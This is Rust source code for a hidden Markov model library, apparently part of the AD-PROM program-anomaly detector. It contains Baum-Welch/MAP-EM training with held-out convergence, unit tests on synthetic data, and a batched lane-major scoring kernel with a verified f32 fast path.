    if let Some((p, w)) = prior {
        debug_assert_eq!(p.n_states(), n);
        debug_assert_eq!(p.n_symbols(), m);
        for i in 0..n {
            for (a, &prior_a) in acc.a_num[i * n..(i + 1) * n].iter_mut().zip(p.a_row(i)) {
                *a += w * prior_a;
            }
            acc.a_den[i] += w;
            for (b, &prior_b) in acc.b_num[i * m..(i + 1) * m].iter_mut().zip(p.b_row(i)) {
                *b += w * prior_b;
            }
            acc.b_den[i] += w;
            // π pseudo-counts are folded in after the division by
            // used_sequences, so scale them as one extra pseudo-sequence.
        }
    }

    for batch in seqs.chunks(ESTEP_BATCH) {
        let locals: Vec<Option<SequenceStats>> = if config.parallel {
            batch
                .par_iter()
                .map(|obs| sequence_stats(hmm, sp, obs))
                .collect()
        } else {
            batch
                .iter()
                .map(|obs| sequence_stats(hmm, sp, obs))
                .collect()
        };
        for stats in locals.into_iter().flatten() {
            used_sequences += 1;
            acc.fold(&stats);
        }
    }

    if used_sequences == 0 {
        // Nothing usable: just smooth to open up the model.
        hmm.smooth(smoothing.max(1e-6));
        return;
    }

    for i in 0..n {
        if acc.a_den[i] > 0.0 {
            let inv = 1.0 / acc.a_den[i];
            for (dst, &num) in hmm
                .a_row_mut(i)
                .iter_mut()
                .zip(&acc.a_num[i * n..(i + 1) * n])
            {
                *dst = num * inv;
            }
        }
        if acc.b_den[i] > 0.0 {
            let inv = 1.0 / acc.b_den[i];
            for (dst, &num) in hmm
                .b_row_mut(i)
                .iter_mut()
                .zip(&acc.b_num[i * m..(i + 1) * m])
            {
                *dst = num * inv;
            }
        }
        let (pi_num, pi_den) = match prior {
            Some((p, w)) => (acc.pi_acc[i] + w * p.pi[i], used_sequences as f64 + w),
            None => (acc.pi_acc[i], used_sequences as f64),
        };
        hmm.pi[i] = pi_num / pi_den;
    }
    hmm.smooth(smoothing);
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Generating model for synthetic data.
    fn teacher() -> Hmm {
        Hmm::new(
            vec![vec![0.85, 0.15], vec![0.25, 0.75]],
            vec![vec![0.8, 0.15, 0.05], vec![0.05, 0.2, 0.75]],
            vec![0.7, 0.3],
        )
        .unwrap()
    }

    fn dataset(n: usize, len: usize, seed: u64) -> Vec<Vec<usize>> {
        let t = teacher();
        (0..n).map(|i| t.sample(len, seed + i as u64)).collect()
    }

    #[test]
    fn training_improves_heldout_likelihood() {
        let train_set = dataset(60, 40, 100);
        let holdout = dataset(15, 40, 900);
        let mut hmm = Hmm::random(2, 3, 7);
        let before = mean_log_likelihood(&hmm, &holdout);
        let report = train(&mut hmm, &train_set, &holdout, &TrainConfig::default());
        let after = mean_log_likelihood(&hmm, &holdout);
        assert!(after > before, "{after} <= {before}");
        assert!(report.iterations >= 1);
    }

    #[test]
    fn converges_and_stops_before_cap() {
        let train_set = dataset(40, 30, 5);
        let holdout = dataset(10, 30, 77);
        let mut hmm = Hmm::random(2, 3, 9);
        let report = train(
            &mut hmm,
            &train_set,
            &holdout,
            &TrainConfig {
                max_iterations: 200,
                ..TrainConfig::default()
            },
        );
        assert!(report.converged, "should converge well before 200 iters");
        assert!(report.iterations < 200);
    }

    #[test]
    fn reestimation_keeps_model_stochastic() {
        let train_set = dataset(10, 20, 42);
        let mut hmm = Hmm::random(3, 3, 21);
        reestimate(&mut hmm, &train_set, 1e-6);
        hmm.validate().unwrap();
    }

    #[test]
    fn trained_model_separates_anomalies() {
        // Train on teacher output; score teacher sequences vs uniform noise.
        let train_set = dataset(80, 25, 1000);
        let holdout = dataset(20, 25, 2000);
        let mut hmm = Hmm::random(2, 3, 3);
        train(&mut hmm, &train_set, &holdout, &TrainConfig::default());

        let normal = dataset(20, 25, 3000);
        let normal_score = mean_log_likelihood(&hmm, &normal);
        // Anomalous: symbol 1 is rare in *both* teacher states (0.15/0.2),
        // so an all-1 run is far less likely than any teacher sample.
        let anomalies: Vec<Vec<usize>> = (0..20).map(|_| vec![1; 25]).collect();
        let anom_score = mean_log_likelihood(&hmm, &anomalies);
        assert!(
            normal_score > anom_score + 1.0,
            "normal {normal_score} vs anomalous {anom_score}"
        );
    }

    #[test]
    fn parallel_estep_is_bit_identical_to_serial() {
        let train_set = dataset(70, 30, 400);
        let prior = {
            let mut h = Hmm::random(3, 3, 55);
            h.smooth(1e-4);
            h
        };
        let mut serial = prior.clone();
        let mut parallel = prior.clone();
        let base = TrainConfig::default();
        reestimate_with_config(
            &mut serial,
            &train_set,
            Some((&prior, 2.0)),
            &TrainConfig {
                parallel: false,
                ..base
            },
        );
        reestimate_with_config(
            &mut parallel,
            &train_set,
            Some((&prior, 2.0)),
            &TrainConfig {
                parallel: true,
                ..base
            },
        );
        // Bit-identical, not just close: same fold order by construction.
        assert_eq!(
            serial.a_rows().collect::<Vec<_>>(),
            parallel.a_rows().collect::<Vec<_>>()
        );
        assert_eq!(
            serial.b_rows().collect::<Vec<_>>(),
            parallel.b_rows().collect::<Vec<_>>()
        );
        assert_eq!(serial.pi, parallel.pi);
    }

    #[test]
    fn parallel_train_is_bit_identical_to_serial() {
        let train_set = dataset(40, 25, 77);
        let holdout = dataset(10, 25, 177);
        let mut init = Hmm::random(2, 3, 5);
        init.smooth(1e-4);
        let mut serial = init.clone();
        let mut parallel = init.clone();
        let base = TrainConfig {
            max_iterations: 5,
            ..TrainConfig::default()
        };
        train(
            &mut serial,
            &train_set,
            &holdout,
            &TrainConfig {
                parallel: false,
                ..base
            },
        );
        train(
            &mut parallel,
            &train_set,
            &holdout,
            &TrainConfig {
                parallel: true,
                ..base
            },
        );
        assert_eq!(
            serial.a_rows().collect::<Vec<_>>(),
            parallel.a_rows().collect::<Vec<_>>()
        );
        assert_eq!(
            serial.b_rows().collect::<Vec<_>>(),
            parallel.b_rows().collect::<Vec<_>>()
        );
        assert_eq!(serial.pi, parallel.pi);
    }

    #[test]
    fn sparse_estep_matches_dense_within_tolerance() {
        let train_set = dataset(30, 25, 800);
        let mut init = Hmm::random(3, 3, 31);
        init.smooth(1e-4);
        let prior = init.clone();
        let mut dense = init.clone();
        let mut sparse = init.clone();
        let base = TrainConfig {
            parallel: false,
            ..TrainConfig::default()
        };
        reestimate_with_config(&mut dense, &train_set, Some((&prior, 2.0)), &base);
        reestimate_with_config(
            &mut sparse,
            &train_set,
            Some((&prior, 2.0)),
            &TrainConfig {
                sparse: true,
                ..base
            },
        );
        for (dr, sr) in dense.a_rows().zip(sparse.a_rows()) {
            for (d, s) in dr.iter().zip(sr) {
                assert!((d - s).abs() < 1e-9, "{d} vs {s}");
            }
        }
        for (dr, sr) in dense.b_rows().zip(sparse.b_rows()) {
            for (d, s) in dr.iter().zip(sr) {
                assert!((d - s).abs() < 1e-9);
            }
        }
        for (d, s) in dense.pi.iter().zip(&sparse.pi) {
            assert!((d - s).abs() < 1e-9);
        }
    }

    #[test]
    fn empty_training_set_is_safe() {
        let mut hmm = Hmm::random(2, 2, 1);
        let report = train(&mut hmm, &[], &[], &TrainConfig::default());
        assert!(report.iterations <= TrainConfig::default().max_iterations);
        hmm.validate().unwrap();
    }
}
