//! The learning problem: multi-sequence Baum–Welch re-estimation with
//! held-out convergence (§IV-C4, §V-B).
//!
//! AD-PROM trains the statically-initialized model on program traces and
//! stops when the likelihood of a held-out *converge sub-dataset* (CSDS)
//! stops improving — "the system stops the training with a converged model
//! (λ) once it does not notice any improvement on the CSDS".

use crate::forward::{backward, forward};
use crate::model::{normalize, Hmm};

/// Training configuration.
#[derive(Debug, Clone, Copy)]
pub struct TrainConfig {
    /// Hard iteration cap.
    pub max_iterations: usize,
    /// Minimum improvement in mean held-out log-likelihood per iteration.
    pub min_improvement: f64,
    /// Additive smoothing floor applied after every re-estimation.
    pub smoothing: f64,
    /// Dirichlet pseudo-count mass (per row) anchoring re-estimation to the
    /// *initial* model — MAP EM. For AD-PROM this is how the statically
    /// computed pCTM keeps feasible-but-untrained paths alive: Baum–Welch
    /// alone starves every transition the finite trace set missed, which is
    /// exactly the false-positive failure mode the paper attributes to
    /// purely learning-based models (§I). Zero disables the prior
    /// (Rand-HMM trains with zero: it has no informed prior to keep).
    pub prior_weight: f64,
}

impl Default for TrainConfig {
    fn default() -> TrainConfig {
        TrainConfig {
            max_iterations: 50,
            min_improvement: 1e-4,
            smoothing: 1e-6,
            prior_weight: 2.0,
        }
    }
}

/// Training report.
#[derive(Debug, Clone)]
pub struct TrainReport {
    /// Iterations actually run.
    pub iterations: usize,
    /// Mean held-out log-likelihood after each iteration.
    pub holdout_curve: Vec<f64>,
    /// True if training stopped because the CSDS score converged (as
    /// opposed to hitting the iteration cap).
    pub converged: bool,
}

/// Trains `hmm` in place on `train` sequences, using `holdout` (the CSDS)
/// to decide when to stop. Empty sequences are ignored.
pub fn train(
    hmm: &mut Hmm,
    train: &[Vec<usize>],
    holdout: &[Vec<usize>],
    config: &TrainConfig,
) -> TrainReport {
    let prior = if config.prior_weight > 0.0 {
        Some((hmm.clone(), config.prior_weight))
    } else {
        None
    };
    let mut best_score = mean_log_likelihood(hmm, holdout);
    let mut best_model = hmm.clone();
    let mut curve = Vec::new();
    let mut converged = false;
    let mut iterations = 0;

    for _ in 0..config.max_iterations {
        iterations += 1;
        reestimate_with_prior(
            hmm,
            train,
            config.smoothing,
            prior.as_ref().map(|(p, w)| (p, *w)),
        );
        let score = mean_log_likelihood(hmm, holdout);
        curve.push(score);
        if score > best_score + config.min_improvement {
            best_score = score;
            best_model = hmm.clone();
        } else {
            // No improvement on the CSDS: keep the best model and stop.
            *hmm = best_model.clone();
            converged = true;
            break;
        }
    }
    if !converged {
        // Iteration cap: keep whichever model scored best.
        if mean_log_likelihood(hmm, holdout) < best_score {
            *hmm = best_model;
        }
    }
    TrainReport {
        iterations,
        holdout_curve: curve,
        converged,
    }
}

/// Mean per-sequence log-likelihood over a set (`-inf`-safe: impossible
/// sequences contribute a large negative penalty instead of poisoning the
/// mean).
pub fn mean_log_likelihood(hmm: &Hmm, seqs: &[Vec<usize>]) -> f64 {
    if seqs.is_empty() {
        return 0.0;
    }
    let penalty = -1e6;
    let total: f64 = seqs
        .iter()
        .map(|s| {
            let ll = crate::forward::log_likelihood(hmm, s);
            if ll.is_finite() {
                ll
            } else {
                penalty
            }
        })
        .sum();
    total / seqs.len() as f64
}

/// One Baum–Welch re-estimation step over all sequences.
pub fn reestimate(hmm: &mut Hmm, seqs: &[Vec<usize>], smoothing: f64) {
    reestimate_with_prior(hmm, seqs, smoothing, None);
}

/// One MAP-EM re-estimation step: expected counts plus `weight`
/// pseudo-counts per row distributed according to `prior`.
#[allow(clippy::needless_range_loop)] // dense N×N accumulators indexed in lock-step
pub fn reestimate_with_prior(
    hmm: &mut Hmm,
    seqs: &[Vec<usize>],
    smoothing: f64,
    prior: Option<(&Hmm, f64)>,
) {
    let n = hmm.n_states();
    let m = hmm.n_symbols();

    let mut a_num = vec![vec![0.0f64; n]; n];
    let mut a_den = vec![0.0f64; n];
    let mut b_num = vec![vec![0.0f64; m]; n];
    let mut b_den = vec![0.0f64; n];
    let mut pi_acc = vec![0.0f64; n];
    let mut used_sequences = 0usize;

    if let Some((p, w)) = prior {
        debug_assert_eq!(p.n_states(), n);
        debug_assert_eq!(p.n_symbols(), m);
        for i in 0..n {
            for (acc, &prior_a) in a_num[i].iter_mut().zip(p.a_row(i)) {
                *acc += w * prior_a;
            }
            a_den[i] += w;
            for (acc, &prior_b) in b_num[i].iter_mut().zip(p.b_row(i)) {
                *acc += w * prior_b;
            }
            b_den[i] += w;
            // π pseudo-counts are folded in after the division by
            // used_sequences, so scale them as one extra pseudo-sequence.
        }
    }

    for obs in seqs {
        let t_len = obs.len();
        if t_len == 0 {
            continue;
        }
        let fp = forward(hmm, obs);
        if !fp.log_likelihood.is_finite() {
            // Impossible under current parameters; smoothing at the end of
            // the step gradually opens such paths.
            continue;
        }
        used_sequences += 1;
        let beta = backward(hmm, obs, &fp.scale);

        // gamma_t(i) ∝ alpha_t(i) * beta_t(i); with Rabiner scaling the
        // product needs dividing by c_t to be the true posterior.
        let mut gamma = vec![0.0f64; n];
        for t in 0..t_len {
            for (i, g) in gamma.iter_mut().enumerate() {
                *g = fp.alpha[t][i] * beta[t][i];
            }
            normalize(&mut gamma);
            if t == 0 {
                for i in 0..n {
                    pi_acc[i] += gamma[i];
                }
            }
            for i in 0..n {
                b_num[i][obs[t]] += gamma[i];
                b_den[i] += gamma[i];
                if t + 1 < t_len {
                    a_den[i] += gamma[i];
                }
            }
        }

        // xi_t(i,j) ∝ alpha_t(i) a_ij b_j(o_{t+1}) beta_{t+1}(j).
        // Two O(N²) passes — the first computes the normalizer, the second
        // adds xi/total straight into the accumulator — so no N×N buffer is
        // materialized (at bash scale that buffer dominated training time).
        let mut bb = vec![0.0f64; n];
        for t in 0..t_len.saturating_sub(1) {
            let next = obs[t + 1];
            for j in 0..n {
                bb[j] = hmm.b(j, next) * beta[t + 1][j];
            }
            let mut total = 0.0;
            for i in 0..n {
                let ai = fp.alpha[t][i];
                if ai == 0.0 {
                    continue;
                }
                let row = hmm.a_row(i);
                let mut acc = 0.0;
                for j in 0..n {
                    acc += row[j] * bb[j];
                }
                total += ai * acc;
            }
            if total > 0.0 {
                let inv = 1.0 / total;
                for i in 0..n {
                    let ai = fp.alpha[t][i] * inv;
                    if ai == 0.0 {
                        continue;
                    }
                    let row = hmm.a_row(i);
                    let out = &mut a_num[i];
                    for j in 0..n {
                        out[j] += ai * row[j] * bb[j];
                    }
                }
            }
        }
    }

    if used_sequences == 0 {
        // Nothing usable: just smooth to open up the model.
        hmm.smooth(smoothing.max(1e-6));
        return;
    }

    let pi_prior = prior;
    for i in 0..n {
        if a_den[i] > 0.0 {
            let inv = 1.0 / a_den[i];
            for (dst, &num) in hmm.a_row_mut(i).iter_mut().zip(&a_num[i]) {
                *dst = num * inv;
            }
        }
        if b_den[i] > 0.0 {
            let inv = 1.0 / b_den[i];
            for (dst, &num) in hmm.b_row_mut(i).iter_mut().zip(&b_num[i]) {
                *dst = num * inv;
            }
        }
        let (pi_num, pi_den) = match pi_prior {
            Some((p, w)) => (pi_acc[i] + w * p.pi[i], used_sequences as f64 + w),
            None => (pi_acc[i], used_sequences as f64),
        };
        hmm.pi[i] = pi_num / pi_den;
    }
    hmm.smooth(smoothing);
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Generating model for synthetic data.
    fn teacher() -> Hmm {
        Hmm::new(
            vec![vec![0.85, 0.15], vec![0.25, 0.75]],
            vec![vec![0.8, 0.15, 0.05], vec![0.05, 0.2, 0.75]],
            vec![0.7, 0.3],
        )
        .unwrap()
    }

    fn dataset(n: usize, len: usize, seed: u64) -> Vec<Vec<usize>> {
        let t = teacher();
        (0..n).map(|i| t.sample(len, seed + i as u64)).collect()
    }

    #[test]
    fn training_improves_heldout_likelihood() {
        let train_set = dataset(60, 40, 100);
        let holdout = dataset(15, 40, 900);
        let mut hmm = Hmm::random(2, 3, 7);
        let before = mean_log_likelihood(&hmm, &holdout);
        let report = train(&mut hmm, &train_set, &holdout, &TrainConfig::default());
        let after = mean_log_likelihood(&hmm, &holdout);
        assert!(after > before, "{after} <= {before}");
        assert!(report.iterations >= 1);
    }

    #[test]
    fn converges_and_stops_before_cap() {
        let train_set = dataset(40, 30, 5);
        let holdout = dataset(10, 30, 77);
        let mut hmm = Hmm::random(2, 3, 9);
        let report = train(
            &mut hmm,
            &train_set,
            &holdout,
            &TrainConfig {
                max_iterations: 200,
                ..TrainConfig::default()
            },
        );
        assert!(report.converged, "should converge well before 200 iters");
        assert!(report.iterations < 200);
    }

    #[test]
    fn reestimation_keeps_model_stochastic() {
        let train_set = dataset(10, 20, 42);
        let mut hmm = Hmm::random(3, 3, 21);
        reestimate(&mut hmm, &train_set, 1e-6);
        hmm.validate().unwrap();
    }

    #[test]
    fn trained_model_separates_anomalies() {
        // Train on teacher output; score teacher sequences vs uniform noise.
        let train_set = dataset(80, 25, 1000);
        let holdout = dataset(20, 25, 2000);
        let mut hmm = Hmm::random(2, 3, 3);
        train(&mut hmm, &train_set, &holdout, &TrainConfig::default());

        let normal = dataset(20, 25, 3000);
        let normal_score = mean_log_likelihood(&hmm, &normal);
        // Anomalous: symbol 1 is rare in *both* teacher states (0.15/0.2),
        // so an all-1 run is far less likely than any teacher sample.
        let anomalies: Vec<Vec<usize>> = (0..20).map(|_| vec![1; 25]).collect();
        let anom_score = mean_log_likelihood(&hmm, &anomalies);
        assert!(
            normal_score > anom_score + 1.0,
            "normal {normal_score} vs anomalous {anom_score}"
        );
    }

    #[test]
    fn empty_training_set_is_safe() {
        let mut hmm = Hmm::random(2, 2, 1);
        let report = train(&mut hmm, &[], &[], &TrainConfig::default());
        assert!(report.iterations <= TrainConfig::default().max_iterations);
        hmm.validate().unwrap();
    }
}
