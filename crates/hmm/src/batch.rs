//! Cross-window batch scoring: lane-major SoA kernels and the f32 fast
//! path with f64 verification.
//!
//! The scalar sparse kernel ([`crate::log_likelihood_sparse`]) keeps every
//! reduction in one fixed order so the detection pipeline's bit-identity
//! pins hold (streaming ≡ whole-trace, steps resum to the score, parallel
//! ≡ serial). That rules out vectorizing *within* a window — reassociating
//! a reduction changes its bits. This module vectorizes *across* windows
//! instead: `k` same-profile windows are scored in one pass over the
//! transition structure, with the forward state held lane-major
//! (`alpha[state * k + lane]`) so each arithmetic step is a contiguous
//! `k`-wide operation the autovectorizer turns into packed multiply-adds.
//!
//! # Bit-identity contract
//!
//! Per lane, [`score_windows_batch`] performs the **exact op-for-op
//! sequence** of [`crate::log_likelihood_sparse`] (and of
//! [`crate::step_scores_sparse`] when step capture is on): the t=0 init in
//! state order, the background dot in state order, each CSC column gather
//! in stored-entry order, the dense-fallback axpys in row order, the
//! emission multiply + sum in state order, then scale and `ln`. Rust never
//! contracts `a*b + c` into an FMA implicitly and cross-lane vectorization
//! never reassociates within a lane, so every lane's score is
//! bit-identical to the scalar call at any batch width — the batch API is
//! a pure layout change, not an approximation.
//!
//! Windows whose probability mass vanishes mid-batch ("dead" lanes) score
//! `-inf` exactly like the scalar early return: their scale factor is
//! forced to `0.0` so the lane's state zeroes and stays zero (never NaN),
//! while live lanes continue unperturbed.
//!
//! # f32 fast path
//!
//! [`F32Kernel`] mirrors the CSR decomposition in `f32` and runs the same
//! lane-major recursion in single precision. Its per-step `ln` terms are
//! widened to `f64` and accumulated in `f64`, so captured steps still
//! resum bit-identically to the returned score (the forensics invariant).
//! The f32 score differs from the f64 score by a small amount (observed
//! ~1e-4 nats for window-15 hospital traces; bounded by a tolerance test
//! in `crates/hmm/tests/`), which is why it is only used *verified*: the
//! caller re-scores any window whose f32 score lands within a guard band
//! of the decision threshold — or is non-finite — through the f64 path
//! ([`Precision::F32Verified`]), making emitted flags provably identical
//! to pure f64.

use crate::model::Hmm;
use crate::sparse::SparseTransitions;

/// Scoring precision policy for the detection hot path.
#[derive(Debug, Clone, Copy, PartialEq, Default)]
pub enum Precision {
    /// Score every window in f64 (the default; bit-identical to the
    /// scalar kernels).
    #[default]
    F64,
    /// Score windows in f32 and re-score any window whose f32 score lands
    /// within `guard_band` nats of the decision threshold (or is
    /// non-finite) through the f64 path. Flags are then identical to pure
    /// f64 whenever the true f32↔f64 gap stays below the guard band —
    /// which the tolerance suite bounds at orders of magnitude under the
    /// default.
    F32Verified {
        /// Half-width (in nats) of the band around the threshold inside
        /// which f32 scores are not trusted for flag decisions.
        guard_band: f64,
    },
}

impl Precision {
    /// Default guard band (nats). The measured f32↔f64 score gap on
    /// window-scale sequences is ~1e-4 nats; 0.25 leaves >3 orders of
    /// magnitude of slack while still letting the vast majority of
    /// clearly-benign / clearly-anomalous windows skip the f64 pass.
    pub const DEFAULT_GUARD_BAND: f64 = 0.25;

    /// `F32Verified` with the default guard band.
    pub fn f32_verified() -> Precision {
        Precision::F32Verified {
            guard_band: Precision::DEFAULT_GUARD_BAND,
        }
    }

    /// Stable label for status and audit records.
    pub fn label(&self) -> &'static str {
        match self {
            Precision::F64 => "f64",
            Precision::F32Verified { .. } => "f32-verified",
        }
    }
}

/// Result of a batched scoring call: one score per window (lane), plus the
/// per-step `ln` factors when requested (each lane's steps resum
/// bit-identically to its score).
#[derive(Debug, Clone)]
pub struct BatchScores {
    /// `log P(O | λ)` per window, in input order.
    pub scores: Vec<f64>,
    /// Per-window step factors (`Some` iff requested). On an impossible
    /// window the vector ends with the `-inf` step at which mass vanished,
    /// mirroring [`crate::step_scores_sparse`].
    pub steps: Option<Vec<Vec<f64>>>,
}

/// Scatters each lane's emission column for step `t` into a lane-major
/// buffer (`bv[state * k + lane]`). Hoisting the per-lane column
/// indirection out of the recursion turns the emission multiply + sum
/// into contiguous `k`-wide sweeps the autovectorizer packs — the values
/// and their per-lane order are untouched, so lane bit-identity holds.
#[inline(always)]
fn gather_emission<T: Copy>(
    bt: &[T],
    n: usize,
    k: usize,
    windows: &[&[usize]],
    t: usize,
    bv: &mut [T],
) {
    for (l, w) in windows.iter().enumerate() {
        let col = &bt[w[t] * n..(w[t] + 1) * n];
        for (j, &c) in col.iter().enumerate() {
            bv[j * k + l] = c;
        }
    }
}

/// Branchless single-precision natural log (musl `logf`'s reduction and
/// minimax polynomial), accurate to ~1 ulp of f32 for finite positive
/// inputs. The f32 fast path calls this instead of libm's `ln` so the
/// per-step settle stays a handful of selects and multiplies instead of
/// a call — the approximation error (~1e-7 nats/step) is orders of
/// magnitude below both the f32 state rounding it rides on and the
/// guard band that decides when a window must re-score in f64.
#[inline(always)]
#[allow(clippy::excessive_precision)] // musl logf literals, kept verbatim
fn fast_ln_f32(x: f32) -> f32 {
    const LN2_HI: f32 = 6.931_381_2e-1;
    const LN2_LO: f32 = 9.058_000_6e-6;
    const LG1: f32 = 0.666_666_63;
    const LG2: f32 = 0.400_009_72;
    const LG3: f32 = 0.284_987_87;
    const LG4: f32 = 0.242_790_79;
    // Scale subnormals up so the exponent-field extraction below sees a
    // normalized mantissa.
    let small = x < f32::MIN_POSITIVE;
    let xs = if small { x * 8_388_608.0 } else { x }; // 2^23
    let off = if small { 23 } else { 0 };
    let bits = xs.to_bits();
    let e0 = ((bits >> 23) as i32) - 127 - off;
    let m0 = f32::from_bits((bits & 0x007f_ffff) | 0x3f80_0000); // [1, 2)
                                                                 // Reduce to [√2/2, √2): above √2, halve and carry into the exponent.
                                                                 // Written as selects (not mutation) so the lane loop in the batch
                                                                 // settle vectorizes.
    let big = m0 > std::f32::consts::SQRT_2;
    let m = if big { m0 * 0.5 } else { m0 };
    let e = e0 + i32::from(big);
    let f = m - 1.0;
    let s = f / (2.0 + f);
    let z = s * s;
    let w = z * z;
    let t1 = w * (LG2 + w * LG4);
    let t2 = z * (LG1 + w * LG3);
    let r = t2 + t1;
    let hfsq = 0.5 * f * f;
    let k = e as f32;
    k * LN2_HI - ((hfsq - (s * (hfsq + r) + k * LN2_LO)) - f)
}

/// Applies the end-of-step bookkeeping for every lane: scale factor,
/// accumulated score, optional step capture, and dead-lane zeroing.
fn settle_f64(
    sum: &[f64],
    scl: &mut [f64],
    alive: &mut [bool],
    scores: &mut [f64],
    steps: &mut [Vec<f64>],
    want_steps: bool,
) {
    for (l, &s) in sum.iter().enumerate() {
        if !alive[l] {
            scl[l] = 0.0;
            continue;
        }
        if s > 0.0 {
            let step = s.ln();
            scores[l] += step;
            scl[l] = 1.0 / s;
            if want_steps {
                steps[l].push(step);
            }
        } else {
            alive[l] = false;
            scores[l] = f64::NEG_INFINITY;
            scl[l] = 0.0;
            if want_steps {
                steps[l].push(f64::NEG_INFINITY);
            }
        }
    }
}

/// Scores `k` same-length windows against one profile in a single pass
/// over the transition structure. Each lane is bit-identical to
/// [`crate::log_likelihood_sparse`] on that window (see the module docs
/// for the op-order argument); `want_steps` additionally captures each
/// lane's per-step factors, matching [`crate::step_scores_sparse`].
///
/// The batch is a cache-reuse play: the CSR arrays, emission columns and
/// background vector are streamed once per step for all `k` windows
/// instead of once per window, and every inner loop is a contiguous
/// `k`-wide lane sweep the autovectorizer packs.
pub fn score_windows_batch(
    hmm: &Hmm,
    sp: &SparseTransitions,
    windows: &[&[usize]],
    want_steps: bool,
) -> BatchScores {
    // The recursion is lane-local, so splitting an oversized batch into
    // sub-batches cannot change any lane's score.
    if windows.len() > LANE_CAP {
        let mut scores = Vec::with_capacity(windows.len());
        let mut steps = want_steps.then(Vec::new);
        for chunk in windows.chunks(LANE_CAP) {
            let part = score_windows_batch(hmm, sp, chunk, want_steps);
            scores.extend(part.scores);
            if let (Some(all), Some(p)) = (steps.as_mut(), part.steps) {
                all.extend(p);
            }
        }
        return BatchScores { scores, steps };
    }
    // Same IEEE ops in the same per-lane order at any vector width —
    // the AVX2 build only packs more lanes per instruction, so the
    // dispatch cannot change a bit of any score.
    #[cfg(target_arch = "x86_64")]
    if std::arch::is_x86_feature_detected!("avx2") {
        // SAFETY: the avx2 wrapper is only reached when the running CPU
        // reports AVX2 support.
        return unsafe { score_batch_f64_avx2(hmm, sp, windows, want_steps) };
    }
    score_batch_f64(hmm, sp, windows, want_steps)
}

/// Hard cap on lanes per kernel invocation: the widest padded width the
/// dispatchers monomorphize. Larger batches are split (lane-locally
/// harmless) before dispatch.
const LANE_CAP: usize = 32;

/// AVX2-codegen clone of [`score_batch_f64`] (the `#[inline(always)]`
/// body recompiles with 256-bit lanes; nothing else changes).
#[cfg(target_arch = "x86_64")]
#[target_feature(enable = "avx2")]
unsafe fn score_batch_f64_avx2(
    hmm: &Hmm,
    sp: &SparseTransitions,
    windows: &[&[usize]],
    want_steps: bool,
) -> BatchScores {
    score_batch_f64(hmm, sp, windows, want_steps)
}

#[inline(always)]
fn score_batch_f64(
    hmm: &Hmm,
    sp: &SparseTransitions,
    windows: &[&[usize]],
    want_steps: bool,
) -> BatchScores {
    debug_assert_eq!(hmm.n_states(), sp.n_states());
    let k = windows.len();
    let t_len = windows.first().map_or(0, |w| w.len());
    assert!(
        windows.iter().all(|w| w.len() == t_len),
        "batched windows must share a length"
    );
    let mut scores = vec![0.0f64; k];
    let mut steps: Vec<Vec<f64>> = if want_steps {
        vec![Vec::with_capacity(t_len); k]
    } else {
        Vec::new()
    };
    if k == 0 || t_len == 0 {
        return BatchScores {
            scores,
            steps: want_steps.then_some(steps),
        };
    }
    let n = sp.n;
    // Lanes are padded to a whole number of 256-bit blocks (4 × f64) so
    // the vectorized lane loops never run their scalar remainder tails.
    // Pad lanes start at zero and stay there: their emission entries are
    // never written (so every product is ×0) and their scale factors are
    // never settled (so every rescale is ×0) — real lanes are untouched.
    let kp = k.div_ceil(4) * 4;
    let mut prev = vec![0.0f64; n * kp];
    let mut cur = vec![0.0f64; n * kp];
    let mut sum = vec![0.0f64; kp];
    let mut scl = vec![0.0f64; kp];
    let mut base = vec![0.0f64; kp];
    let mut alive = vec![true; k];
    let mut bv = vec![0.0f64; n * kp];

    // t = 0: per lane, αₗ(i) = π_i · b_i(o₀ₗ) with the sum accumulated in
    // state order — the scalar kernel's exact sequence.
    gather_emission(&sp.bt, n, kp, windows, 0, &mut bv);
    for (i, &pi_i) in hmm.pi.iter().enumerate() {
        let row = &mut prev[i * kp..(i + 1) * kp];
        let b = &bv[i * kp..(i + 1) * kp];
        for ((r, &bb), s) in row.iter_mut().zip(b).zip(sum.iter_mut()) {
            let p = pi_i * bb;
            *r = p;
            *s += p;
        }
    }
    settle_f64(
        &sum[..k],
        &mut scl[..k],
        &mut alive,
        &mut scores,
        &mut steps,
        want_steps,
    );
    for i in 0..n {
        let row = &mut prev[i * kp..(i + 1) * kp];
        for (r, &s) in row.iter_mut().zip(&scl) {
            *r *= s;
        }
    }

    for t in 1..t_len {
        // Propagate: base dot, CSC column gathers, dense-fallback axpys —
        // each a kp-wide lane sweep, per lane in scalar op order.
        base.fill(0.0);
        for (i, &bg) in sp.background.iter().enumerate() {
            let row = &prev[i * kp..(i + 1) * kp];
            for (b, &r) in base.iter_mut().zip(row) {
                *b += r * bg;
            }
        }
        for j in 0..n {
            let (s, e) = (sp.tcol_start[j], sp.tcol_start[j + 1]);
            let out = &mut cur[j * kp..(j + 1) * kp];
            out.copy_from_slice(&base);
            for (i, d) in sp.trow[s..e].iter().zip(&sp.tdev[s..e]) {
                let src = *i as usize;
                let row = &prev[src * kp..(src + 1) * kp];
                for (o, &r) in out.iter_mut().zip(row) {
                    *o += r * d;
                }
            }
        }
        for (kd, &i) in sp.dense_idx.iter().enumerate() {
            let src = i as usize;
            let arow = &prev[src * kp..(src + 1) * kp];
            let vrow = &sp.dense_val[kd * n..(kd + 1) * n];
            for (j, &v) in vrow.iter().enumerate() {
                let out = &mut cur[j * kp..(j + 1) * kp];
                for (o, &a) in out.iter_mut().zip(arow) {
                    *o += a * v;
                }
            }
        }
        // Emission multiply + per-lane sum (state order), then settle.
        sum.fill(0.0);
        gather_emission(&sp.bt, n, kp, windows, t, &mut bv);
        for j in 0..n {
            let row = &mut cur[j * kp..(j + 1) * kp];
            let b = &bv[j * kp..(j + 1) * kp];
            for ((r, &bb), s) in row.iter_mut().zip(b).zip(sum.iter_mut()) {
                let c = *r * bb;
                *r = c;
                *s += c;
            }
        }
        settle_f64(
            &sum[..k],
            &mut scl[..k],
            &mut alive,
            &mut scores,
            &mut steps,
            want_steps,
        );
        for j in 0..n {
            let row = &mut cur[j * kp..(j + 1) * kp];
            for (r, &s) in row.iter_mut().zip(&scl) {
                *r *= s;
            }
        }
        std::mem::swap(&mut prev, &mut cur);
    }

    BatchScores {
        scores,
        steps: want_steps.then_some(steps),
    }
}

/// Single-precision mirror of a [`SparseTransitions`] (plus π), for the
/// f32 fast-scoring path. Borrow-free and cheap to build (one widening
/// pass over the CSR arrays); share behind an `Arc` like the f64 kernel.
#[derive(Debug, Clone)]
pub struct F32Kernel {
    n: usize,
    pi: Vec<f32>,
